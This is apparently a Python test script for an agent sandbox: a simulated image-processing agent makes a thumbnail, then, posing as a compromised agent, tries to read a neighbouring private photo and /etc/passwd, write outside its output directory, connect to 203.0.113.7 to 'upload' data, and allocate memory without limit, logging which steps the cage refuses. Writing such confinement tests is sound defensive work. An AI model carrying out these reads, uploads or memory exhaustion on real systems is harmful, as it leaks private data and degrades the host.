#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-only
"""An image-processing agent (policies/image-agent.yaml): it makes a thumbnail
of its one input image in its output directory, then, as a compromised agent
would, tries to reach beyond them, and at last allocates memory without end.

    image-agent.py INPUT OUTDIR

One line per step on standard output ("[image-agent] STEP: RESULT"); a refused
step names its errno (EPERM is the cage; EACCES would be file permissions)."""
import errno, os, socket, sys

from PIL import Image

def step(title, fn):
    try:
        print(f"[image-agent] {title}: {fn()}", flush=True)
    except OSError as e:
        name = errno.errorcode.get(e.errno, str(e.errno))
        print(f"[image-agent] {title}: refused, {name} ({e.strerror})", flush=True)

def thumbnail(src, outdir):
    with Image.open(src) as im:
        size = im.size
        im.thumbnail((128, 128))
        dst = os.path.join(outdir, "thumbnail.png")
        im.save(dst)
    return f"{size[0]}x{size[1]} -> {dst} {im.size[0]}x{im.size[1]}"

def read(path):
    with open(path, "rb") as f:
        return f"read {len(f.read())} bytes"

def write(path):
    with open(path, "wb") as f:
        f.write(b"\x89PNG stolen thumbnail\n")
    return "written"

def upload(addr):
    with socket.create_connection(addr, timeout=5) as s:
        s.sendall(b"POST /upload")
    return "sent"

def hog():
    chunks = []
    while True:     # 16 MiB at a time, touched, until the limit stops it
        chunks.append(b"\x01" * (16 << 20))
        print(f"[image-agent]   holding {16 * len(chunks)} MiB", flush=True)

def main():
    src, outdir = sys.argv[1], sys.argv[2]
    here = os.path.dirname(os.path.abspath(src))
    step(f"make a thumbnail of {src}", lambda: thumbnail(src, outdir))
    step("read another photo next to it, private.png", lambda: read(os.path.join(here, "private.png")))
    step("read /etc/passwd, the host's users", lambda: read("/etc/passwd"))
    step("write a copy to /tmp/exfil.png, outside its output directory", lambda: write("/tmp/exfil.png"))
    step("upload the photo to 203.0.113.7:443", lambda: upload(("203.0.113.7", 443)))
    print("[image-agent] allocate memory without end (limits.memory is 100M)", flush=True)
    hog()

main()
